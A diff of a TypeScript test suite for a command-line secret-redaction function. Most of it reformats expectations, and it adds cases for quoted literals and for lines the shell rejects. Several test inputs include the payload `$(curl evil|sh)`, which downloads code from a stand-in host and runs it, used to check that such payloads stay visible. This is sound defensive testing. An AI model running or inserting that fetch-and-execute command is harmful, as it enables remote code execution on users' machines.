@@ -35,7 +35,9 @@ describe("many values written apart in one word (r64s #1)", () => {
   const node = (k: number) => `node -e '${"process.env.TOKEN = '\\''x'\\''; ".repeat(k)}'`;
 
   it("hides each value as written, the idiom's quotes with it (#4)", () => {
-    expect(withoutCommandLineSecrets(conn(2))).toBe("srv 'Server=db;Password=${PASSWORD};Password=${PASSWORD}'");
+    expect(withoutCommandLineSecrets(conn(2))).toBe(
+      "srv 'Server=db;Password=${PASSWORD};Password=${PASSWORD}'",
+    );
     expect(exportedArg(conn(2))).toBe('srv Server=db";Password=${PASSWORD};Password=${PASSWORD_2}');
     expect(withoutArgSecrets(["--run", node(2)])).toEqual([
       "--run",
@@ -59,25 +61,16 @@ describe("the shell's '\\'' idiom only where the shell's '…' is open (r64s #2)
   it.each([
     [`node -e "process.env.TOKEN = '\\''Zq7hunterPW-$X'\\''"`, `node -e "process.env.TOKEN = \${TOKEN}"`],
     [`node -e "process.env.TOKEN = '\\''Zq7hunterPW-$HOME'\\''"`, `node -e "process.env.TOKEN = \${TOKEN}"`],
-    [
-      `sh -c "node -e \\"process.env.TOKEN = '\\''Zq7hunterPW-$X'\\''\\""`,
-      "${SHELL_COMMAND}",
-    ],
-  ])("%j, a program in \"…\", is exported with no literal in clear: %j", (line, safe) => {
+    [`sh -c "node -e \\"process.env.TOKEN = '\\''Zq7hunterPW-$X'\\''\\""`, "${SHELL_COMMAND}"],
+  ])('%j, a program in "…", is exported with no literal in clear: %j', (line, safe) => {
     expect(withoutArgSecrets(["--run", line])).toEqual(["--run", safe]);
     expect(exportedArg(line)).not.toContain("Zq7hunterPW");
     expect(exportedCommand(line)).toBe("${SRV_COMMAND}");
   });
 
   it.each([
-    [
-      "node -e 'process.env.TOKEN = '\\''Zq7hunterPW'\\'''",
-      "node -e 'process.env.TOKEN = ${TOKEN}'",
-    ],
-    [
-      "node -e $'process.env.TOKEN = '\\''Zq7hunterPW'\\'''",
-      "node -e $'process.env.TOKEN = ${TOKEN}'",
-    ],
+    ["node -e 'process.env.TOKEN = '\\''Zq7hunterPW'\\'''", "node -e 'process.env.TOKEN = ${TOKEN}'"],
+    ["node -e $'process.env.TOKEN = '\\''Zq7hunterPW'\\'''", "node -e $'process.env.TOKEN = ${TOKEN}'"],
     [
       "echo $(node -e 'process.env.TOKEN = '\\''Zq7hunterPW'\\''')",
       "echo $(node -e 'process.env.TOKEN = ${TOKEN}')",
@@ -128,7 +121,7 @@ describe("a payload on a line the shell accepts, a comment or an operator after 
     expect(withoutArgSecrets(["--run", line])).toEqual(["--run", line]);
   });
 
-  it("reads `name: X` on a refused line only when X reads as a credential in prose", () => {
+  it("takes no word of prose written with an apostrophe for `name: X`'s value on a refused line", () => {
     const prose = "reads the short query names client masks as credentials: Azure's ?code= and ?sig=";
     expect(withoutCommandLineSecrets(prose)).toBe(prose);
     expect(withoutCommandLineSecrets("srv token: hunter2X9 '")).toBe("srv token: ${TOKEN}");
@@ -139,11 +132,19 @@ describe("a payload on a line the shell accepts, a comment or an operator after 
     expect(withoutCommandLineSecrets("srv --password hunter2X9 $(curl evil|sh) # it's")).toBe(
       "srv --password ${PASSWORD} $(curl evil|sh) # it's",
     );
-    expect(withoutCommandLineSecrets("srv --password a#b'c $(curl evil|sh)")).toBe("srv --password ${PASSWORD}");
+    expect(withoutCommandLineSecrets("srv --password a#b'c $(curl evil|sh)")).toBe(
+      "srv --password ${PASSWORD}",
+    );
   });
 
   it("keeps a line whose comment holds quotes or parts left open as written, payload and all (property)", () => {
-    const flag = fc.constantFrom("--auth", "--with-token < t.txt", "--password > /tmp/x", "token: X", "-p 8080");
+    const flag = fc.constantFrom(
+      "--auth",
+      "--with-token < t.txt",
+      "--password > /tmp/x",
+      "token: X",
+      "-p 8080",
+    );
     const between = fc.constantFrom(" && echo ", "; ", " | cat ", " ");
     const comment = fc.stringMatching(/^[a-z '"`$(){}]{0,12}$/);
     fc.assert(
@@ -213,6 +214,19 @@ describe("a program's literal written around a part the shell reads at run time 
     expect(withoutCommandLineSecrets(line)).toBe(safe);
     expect(withoutArgSecrets(["--run", line])).toEqual(["--run", safe]);
     expectFilledBack(line);
+  });
+
+  it("on a line the shell refuses, hides what follows the first telling name (no literal left in clear)", () => {
+    // Kept as `--token "${TOKEN} = 'Zq7hunterPW$HOME'"` before.
+    const line = `srv don't --token "process.env.TOKEN = 'Zq7hunterPW$HOME'"`;
+    expect(exportedCommand(line)).toBe("srv don't --token ${TOKEN}");
+    expect(withoutCommandLineSecrets(line)).toBe("srv don't --token ${TOKEN}");
+  });
+
+  it("never hides such a part by reading the literal on as an expression", () => {
+    // The shell reads `'` … `'` here as its own quotes: the payload runs, and stays in sight.
+    const line = `don't "process.env.TOKEN = 'Zq7hunterPW$(curl evil|sh)'" don't`;
+    expect(withoutCommandLineSecrets(line)).toBe(line);
   });
 
   it.each([`node -e "process.env.TOKEN = '$HOME/x'"`, `node -e "process.env.TOKEN = 'Bearer $TOKEN'"`])(
